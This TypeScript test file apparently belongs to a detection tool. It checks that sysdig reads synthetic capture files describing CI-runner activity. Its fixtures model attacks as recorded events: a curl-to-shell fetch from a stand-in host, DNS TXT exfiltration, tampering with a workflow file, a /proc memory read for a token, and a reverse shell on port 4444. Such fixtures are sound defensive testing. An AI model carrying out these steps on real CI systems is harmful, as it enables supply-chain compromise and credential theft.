// Debian's sysdig 0.29.3 is the oracle: it must read every capture the writer makes and see exactly the
// processes, connections, DNS queries, file writes and containers the description asked for.
import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import * as dnsPacket from 'dns-packet';
import { requireSysdig, repoPath } from '../../support/env.ts';
import { parseCaptureDescription, writeCapture, type CaptureDescriptionInput } from '../../../src/scap/writer/index.ts';
import { readCapture } from '../../../src/scap/index.ts';

type Row = Record<string, string | number | boolean | null>;

function sysdig(file: string, fields: readonly string[], filter: string): Promise<Row[]> {
  const format = `*${fields.map((field) => `%${field}`).join(' ')}`;
  return new Promise((resolvePromise, reject) => {
    execFile('sysdig', ['-r', file, '-j', '-b', '-s', '65535', '-p', format, filter], { maxBuffer: 64 * 1024 * 1024, timeout: 30_000 }, (error, stdout, stderr) => {
      if (error !== null) {
        reject(new Error(`sysdig -r ${file} failed: ${stderr || error.message}`));
        return;
      }
      resolvePromise(
        stdout
          .split('\n')
          .filter((line) => line.startsWith('{'))
          .map((line) => JSON.parse(line) as Row),
      );
    });
  });
}

function pick(rows: Row[], fields: readonly string[]): Row[] {
  return rows.map((row) => Object.fromEntries(fields.map((field) => [field, row[field] ?? null])));
}

describe('sysdig 0.29.3 reads writer-made captures', () => {
  let dir = '';
  before(async () => {
    dir = await mkdtemp(join(tmpdir(), 'scap-writer-sysdig-'));
  });
  after(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  async function writeExample(gzip: boolean): Promise<{ path: string; events: number }> {
    const source = repoPath('examples', 'ci-job.json');
    const description = parseCaptureDescription(JSON.parse(await readFile(source, 'utf8')), source);
    const path = join(dir, gzip ? 'ci-job.scap.gz' : 'ci-job.scap');
    const result = await writeCapture(description, path, { gzip });
    return { path, events: result.events };
  }

  test('the example CI job: every process with its name, exepath, args, parent and cwd', async (t) => {
    if (!(await requireSysdig(t))) return;
    const { path } = await writeExample(false);
    const fields = ['proc.pid', 'proc.ppid', 'proc.name', 'proc.exepath', 'proc.args', 'proc.cwd', 'user.name'];
    const rows = pick(await sysdig(path, [...fields, 'evt.rawres'], 'evt.type=execve and evt.dir=< and evt.rawres=0'), fields);
    const work = '/home/runner/work/demo/demo/';
    const runner = (pid: number, ppid: number, name: string, exepath: string, args: string) => ({
      'proc.pid': pid,
      'proc.ppid': ppid,
      'proc.name': name,
      'proc.exepath': exepath,
      'proc.args': args,
      'proc.cwd': work,
      'user.name': 'runner',
    });
    const node = '/opt/hostedtoolcache/node/20.11.0/x64/bin/node';
    assert.deepEqual(rows, [
      runner(2001, 1730, 'node', '/home/runner/actions-runner/externals/node20/bin/node', '/home/runner/work/_actions/actions/checkout/v4/dist/index.js'),
      runner(2002, 2001, 'git', '/usr/bin/git', '-c protocol.version=2 fetch --no-tags --depth=1 origin +refs/heads/main:refs/remotes/origin/main'),
      runner(2101, 1730, 'bash', '/usr/bin/bash', '-e /home/runner/work/_temp/6a1f0e2c-npm.sh'),
      runner(2102, 2101, 'npm install', node, 'install --no-audit'),
      runner(2201, 1730, 'bash', '/usr/bin/bash', '-e /home/runner/work/_temp/0c9d77aa-build.sh'),
      runner(2202, 2201, 'node', node, 'node_modules/.bin/tsc -p tsconfig.json'),
      runner(2301, 1730, 'bash', '/usr/bin/bash', '-e /home/runner/work/_temp/f3e1b0d9-setup.sh'),
      runner(2302, 2301, 'curl', '/usr/bin/curl', '-sSL http://cdn.update-helper.example:8080/install.sh'),
      runner(2303, 2301, 'sh', '/usr/bin/dash', ''),
    ]);
  });

  test('the example CI job: connections (IPv4 and IPv6, success and EINPROGRESS) with their tuples', async (t) => {
    if (!(await requireSysdig(t))) return;
    const { path } = await writeExample(false);
    const fields = ['proc.pid', 'fd.l4proto', 'fd.typechar', 'fd.cip', 'fd.cport', 'fd.sip', 'fd.sport', 'evt.rawres'];
    const rows = pick(await sysdig(path, fields, 'evt.type=connect and evt.dir=<'), fields);
    const tcp = (pid: number, typechar: string, cip: string, cport: number, sip: string, sport: number, res: number) => ({
      'proc.pid': pid,
      'fd.l4proto': 'tcp',
      'fd.typechar': typechar,
      'fd.cip': cip,
      'fd.cport': cport,
      'fd.sip': sip,
      'fd.sport': sport,
      'evt.rawres': res,
    });
    assert.deepEqual(rows, [
      tcp(2002, '4', '10.1.0.4', 52114, '140.82.112.3', 443, -115),
      tcp(2102, '4', '10.1.0.4', 60412, '104.16.2.35', 443, -115),
      tcp(2102, '6', '2603:1030:403::4', 60414, '2606:4700::6810:223', 443, -115),
      tcp(2302, '4', '10.1.0.4', 44120, '203.0.113.50', 8080, 0),
    ]);
  });

  test('the example CI job: DNS queries are UDP datagrams to port 53 whose payload decodes to the asked names', async (t) => {
    if (!(await requireSysdig(t))) return;
    const { path } = await writeExample(false);
    const rows = await sysdig(path, ['proc.pid', 'fd.l4proto', 'fd.sip', 'fd.sport', 'evt.buffer'], 'evt.type=sendto and evt.dir=<');
    const queries = rows.map((row) => {
      const packet = dnsPacket.decode(Buffer.from(String(row['evt.buffer']), 'base64'));
      return {
        pid: row['proc.pid'],
        proto: row['fd.l4proto'],
        server: `${String(row['fd.sip'])}:${String(row['fd.sport'])}`,
        id: packet.id,
        questions: (packet.questions ?? []).map((question) => `${question.type} ${question.name}`),
      };
    });
    assert.deepEqual(queries, [
      { pid: 2002, proto: 'udp', server: '127.0.0.53:53', id: 4321, questions: ['A github.com'] },
      { pid: 2102, proto: 'udp', server: '127.0.0.53:53', id: 17, questions: ['A registry.npmjs.org'] },
      { pid: 2102, proto: 'udp', server: '127.0.0.53:53', id: 18, questions: ['AAAA registry.npmjs.org'] },
      { pid: 2302, proto: 'udp', server: '127.0.0.53:53', id: 999, questions: ['A cdn.update-helper.example'] },
      { pid: 2303, proto: 'udp', server: '198.51.100.23:53', id: 7, questions: ['TXT ZXhmaWx0cmF0ZWQ.data.update-helper.example'] },
    ]);
  });

  test('the example CI job: opens for writing resolve against the cwd and writes land on those files', async (t) => {
    if (!(await requireSysdig(t))) return;
    const { path } = await writeExample(false);
    const opens = pick(await sysdig(path, ['proc.pid', 'fd.name', 'fd.typechar', 'evt.rawres'], 'evt.type=openat and evt.dir=< and evt.arg.flags contains O_WRONLY'), ['proc.pid', 'fd.name', 'fd.typechar']);
    assert.deepEqual(opens, [
      { 'proc.pid': 1655, 'fd.name': '/capture/job.scap', 'fd.typechar': 'f' },
      { 'proc.pid': 2002, 'fd.name': '/home/runner/work/demo/demo/.git/FETCH_HEAD', 'fd.typechar': 'f' },
      { 'proc.pid': 2102, 'fd.name': '/home/runner/work/demo/demo/node_modules/.package-lock.json', 'fd.typechar': 'f' },
      { 'proc.pid': 2202, 'fd.name': '/home/runner/work/demo/demo/dist/index.js', 'fd.typechar': 'f' },
      { 'proc.pid': 2303, 'fd.name': '/home/runner/work/demo/demo/.github/workflows/release.yml', 'fd.typechar': 'f' },
    ]);
    const writes = pick(await sysdig(path, ['proc.pid', 'fd.name', 'evt.rawres'], 'evt.type=write and evt.dir=<'), ['proc.pid', 'fd.name', 'evt.rawres']);
    assert.deepEqual(writes, [
      { 'proc.pid': 2002, 'fd.name': '/home/runner/work/demo/demo/.git/FETCH_HEAD', 'evt.rawres': 87 },
      { 'proc.pid': 2102, 'fd.name': '/home/runner/work/demo/demo/node_modules/.package-lock.json', 'evt.rawres': 50 },
      { 'proc.pid': 2202, 'fd.name': '/home/runner/work/demo/demo/dist/index.js', 'evt.rawres': 36 },
      { 'proc.pid': 2303, 'fd.name': '/home/runner/work/demo/demo/.github/workflows/release.yml', 'evt.rawres': 117 },
    ]);
  });

  test('the example CI job: the container process carries the container id, name and image', async (t) => {
    if (!(await requireSysdig(t))) return;
    const { path } = await writeExample(false);
    const fields = ['proc.pid', 'container.id', 'container.name', 'container.image', 'container.privileged'];
    const rows = pick(await sysdig(path, fields, 'container.id != host and evt.dir=<'), fields);
    assert.deepEqual(rows, [
      { 'proc.pid': 1655, 'container.id': '5f2b9c0e41d7', 'container.name': 'falco-actions-capture', 'container.image': 'docker.io/sysdig/sysdig:0.40.1', 'container.privileged': true },
    ]);
  });

  test('gzip output reads the same, and sysdig counts every event the writer wrote', async (t) => {
    if (!(await requireSysdig(t))) return;
    const plain = await writeExample(false);
    const gzipped = await writeExample(true);
    assert.deepEqual((await readFile(gzipped.path)).subarray(0, 2), Buffer.from([0x1f, 0x8b]));
    const fields = ['evt.num', 'evt.type', 'evt.dir', 'proc.pid', 'fd.name', 'evt.rawres'];
    const fromPlain = await sysdig(plain.path, fields, 'evt.num > 0');
    const fromGzip = await sysdig(gzipped.path, fields, 'evt.num > 0');
    assert.deepEqual(fromGzip, fromPlain);
    // The container event is consumed silently; the last event printed is the last record written.
    assert.equal(fromPlain.at(-1)?.['evt.num'], plain.events);
    assert.equal(fromPlain.at(-1)?.['evt.type'], 'procexit');
  });

  test('event blocks with flags (EVF) read the same as plain event blocks', async (t) => {
    if (!(await requireSysdig(t))) return;
    const source = repoPath('examples', 'ci-job.json');
    const description = parseCaptureDescription(JSON.parse(await readFile(source, 'utf8')), source);
    const plain = join(dir, 'plain-ev.scap');
    const flagged = join(dir, 'flagged-evf.scap');
    await writeCapture(description, plain);
    await writeCapture(description, flagged, { eventFlags: 0 });
    const bytes = await readFile(flagged);
    const lastBlockLength = bytes.readUInt32LE(bytes.length - 4);
    assert.equal(bytes.readUInt32LE(bytes.length - lastBlockLength), 0x217, 'the last block is an EVF_BLOCK_TYPE_V2 block');
    const fields = ['evt.num', 'evt.type', 'evt.dir', 'proc.pid', 'fd.name', 'evt.rawres'];
    assert.deepEqual(await sysdig(flagged, fields, 'evt.num > 0'), await sysdig(plain, fields, 'evt.num > 0'));
  });

  test('known sysdig 0.29.3 limitation: a section header with options is refused, our reader reads it', async (t) => {
    if (!(await requireSysdig(t))) return;
    const source = repoPath('examples', 'ci-job.json');
    const description = parseCaptureDescription(JSON.parse(await readFile(source, 'utf8')), source);
    const path = join(dir, 'with-options.scap');
    const written = await writeCapture(description, path, { sectionOptions: { comment: 'written by falco-actions' } });
    await assert.rejects(sysdig(path, ['evt.num'], 'evt.num > 0'), /sysdig -r .* failed/);
    let delivered = 0;
    const summary = await readCapture(path, () => delivered++);
    assert.equal(summary.events, written.events);
    assert.equal(delivered, written.events);
  });

  test('failures read as failures: a missing file, a refused connect, an exec of a missing program', async (t) => {
    if (!(await requireSysdig(t))) return;
    const input: CaptureDescriptionInput = {
      processes: [{ pid: 700, ppid: 1, comm: 'sh', exepath: '/bin/sh', cwd: '/tmp' }],
      events: [
        { type: 'open', pid: 700, path: 'missing.txt', flags: ['O_RDONLY'], res: -2 },
        { type: 'connect', pid: 700, local: { ip: '10.0.0.5', port: 40001 }, remote: { ip: '10.0.0.9', port: 5432 }, result: 'ECONNREFUSED' },
        { type: 'exec', pid: 700, exepath: '/usr/bin/nope', res: -2 },
        { type: 'sendto', pid: 700, local: { ip: '10.0.0.5', port: 40002 }, remote: { ip: '10.0.0.9', port: 514 }, data: '<13>hello syslog' },
        { type: 'open', pid: 700, path: '/etc/hostname' },
        { type: 'read', pid: 700, path: '/etc/hostname', data: 'runner\n' },
      ],
    };
    const path = join(dir, 'failures.scap');
    await writeCapture(parseCaptureDescription(input), path);
    const fields = ['evt.type', 'proc.name', 'evt.rawres', 'fd.name', 'evt.buffer'];
    const rows = pick(await sysdig(path, fields, 'evt.dir=< and evt.type in (openat,connect,execve,sendto,read)'), fields);
    assert.deepEqual(rows, [
      // libsinsp names the path a failed open tried.
      { 'evt.type': 'openat', 'proc.name': 'sh', 'evt.rawres': -2, 'fd.name': '/tmp/missing.txt', 'evt.buffer': null },
      { 'evt.type': 'connect', 'proc.name': 'sh', 'evt.rawres': -111, 'fd.name': '10.0.0.5:40001->10.0.0.9:5432', 'evt.buffer': null },
      { 'evt.type': 'execve', 'proc.name': 'sh', 'evt.rawres': -2, 'fd.name': null, 'evt.buffer': null },
      { 'evt.type': 'sendto', 'proc.name': 'sh', 'evt.rawres': 16, 'fd.name': '10.0.0.5:40002->10.0.0.9:514', 'evt.buffer': Buffer.from('<13>hello syslog').toString('base64') },
      // fds 3 and 4 are the two sockets, still open.
      { 'evt.type': 'openat', 'proc.name': 'sh', 'evt.rawres': 5, 'fd.name': '/etc/hostname', 'evt.buffer': null },
      { 'evt.type': 'read', 'proc.name': 'sh', 'evt.rawres': 7, 'fd.name': '/etc/hostname', 'evt.buffer': Buffer.from('runner\n').toString('base64') },
    ]);
  });

  test('a memory dump of Runner.Worker: ptrace attach, /proc/PID/mem read, then a reverse shell accepted', async (t) => {
    if (!(await requireSysdig(t))) return;
    const input: CaptureDescriptionInput = {
      processes: [
        { pid: 1730, ppid: 812, comm: 'Runner.Worker', exepath: '/home/runner/actions-runner/bin/Runner.Worker', uid: 1001, gid: 118 },
        { pid: 3000, ppid: 1730, comm: 'python3', exepath: '/usr/bin/python3', args: ['dump.py'], cwd: '/tmp' },
      ],
      events: [
        { type: 'ptrace', pid: 3000, target: 1730 },
        { type: 'open', pid: 3000, path: '/proc/1730/mem' },
        { type: 'read', pid: 3000, path: '/proc/1730/mem', data: 'ghs_0123456789' },
        { type: 'accept', pid: 3000, local: { ip: '10.1.0.4', port: 4444 }, remote: { ip: '198.51.100.7', port: 51000 } },
      ],
    };
    const path = join(dir, 'memdump.scap');
    await writeCapture(parseCaptureDescription(input), path);
    const ptrace = await sysdig(path, ['evt.type', 'evt.dir', 'evt.arg.request', 'evt.arg.pid', 'evt.rawarg.pid'], 'evt.type=ptrace and evt.dir=>');
    assert.deepEqual(ptrace, [{ 'evt.type': 'ptrace', 'evt.dir': '>', 'evt.arg.request': 'PTRACE_ATTACH', 'evt.arg.pid': 'Runner.Worker', 'evt.rawarg.pid': '1730' }]);
    const fields = ['evt.type', 'fd.name', 'fd.cip', 'fd.cport', 'fd.sip', 'fd.sport', 'fd.l4proto', 'evt.rawres'];
    const rows = pick(await sysdig(path, fields, 'evt.dir=< and evt.type in (read,accept)'), fields);
    assert.deepEqual(rows, [
      { 'evt.type': 'read', 'fd.name': '/proc/1730/mem', 'fd.cip': null, 'fd.cport': null, 'fd.sip': null, 'fd.sport': null, 'fd.l4proto': '<NA>', 'evt.rawres': 14 },
      { 'evt.type': 'accept', 'fd.name': '198.51.100.7:51000->10.1.0.4:4444', 'fd.cip': '198.51.100.7', 'fd.cport': 51000, 'fd.sip': '10.1.0.4', 'fd.sport': 4444, 'fd.l4proto': 'tcp', 'evt.rawres': 4 },
    ]);
  });

  test('a process created by clone inherits fds and its exec after a chdir sees the new cwd', async (t) => {
    if (!(await requireSysdig(t))) return;
    const input: CaptureDescriptionInput = {
      processes: [
        {
          pid: 500,
          ppid: 1,
          comm: 'make',
          exepath: '/usr/bin/make',
          cwd: '/src',
          fds: [{ fd: 7, kind: 'file', path: '/src/build.log', flags: ['O_WRONLY', 'O_APPEND'] }],
        },
      ],
      events: [
        { type: 'clone', pid: 500, childPid: 501, at: 1 },
        { type: 'exec', pid: 501, exepath: '/usr/bin/cc', args: ['-c', 'main.c'], cwd: '/src/lib' },
        { type: 'write', pid: 501, fd: 7, data: 'compiling\n' },
        { type: 'open', pid: 501, path: 'main.o', flags: ['O_WRONLY', 'O_CREAT', 'O_TRUNC'] },
        { type: 'procexit', pid: 501, status: 1 },
      ],
    };
    const path = join(dir, 'clone.scap');
    await writeCapture(parseCaptureDescription(input), path);
    const fields = ['evt.type', 'proc.pid', 'proc.ppid', 'proc.name', 'proc.cwd', 'fd.name', 'evt.rawres'];
    const rows = pick(await sysdig(path, fields, 'evt.dir=< and evt.type in (clone,execve,write,openat)'), fields);
    assert.deepEqual(rows, [
      { 'evt.type': 'clone', 'proc.pid': 500, 'proc.ppid': 1, 'proc.name': 'make', 'proc.cwd': '/src/', 'fd.name': null, 'evt.rawres': 501 },
      { 'evt.type': 'clone', 'proc.pid': 501, 'proc.ppid': 500, 'proc.name': 'make', 'proc.cwd': '/src/', 'fd.name': null, 'evt.rawres': 0 },
      { 'evt.type': 'execve', 'proc.pid': 501, 'proc.ppid': 500, 'proc.name': 'cc', 'proc.cwd': '/src/lib/', 'fd.name': null, 'evt.rawres': 0 },
      { 'evt.type': 'write', 'proc.pid': 501, 'proc.ppid': 500, 'proc.name': 'cc', 'proc.cwd': '/src/lib/', 'fd.name': '/src/build.log', 'evt.rawres': 10 },
      { 'evt.type': 'openat', 'proc.pid': 501, 'proc.ppid': 500, 'proc.name': 'cc', 'proc.cwd': '/src/lib/', 'fd.name': '/src/lib/main.o', 'evt.rawres': 3 },
    ]);
  });
});
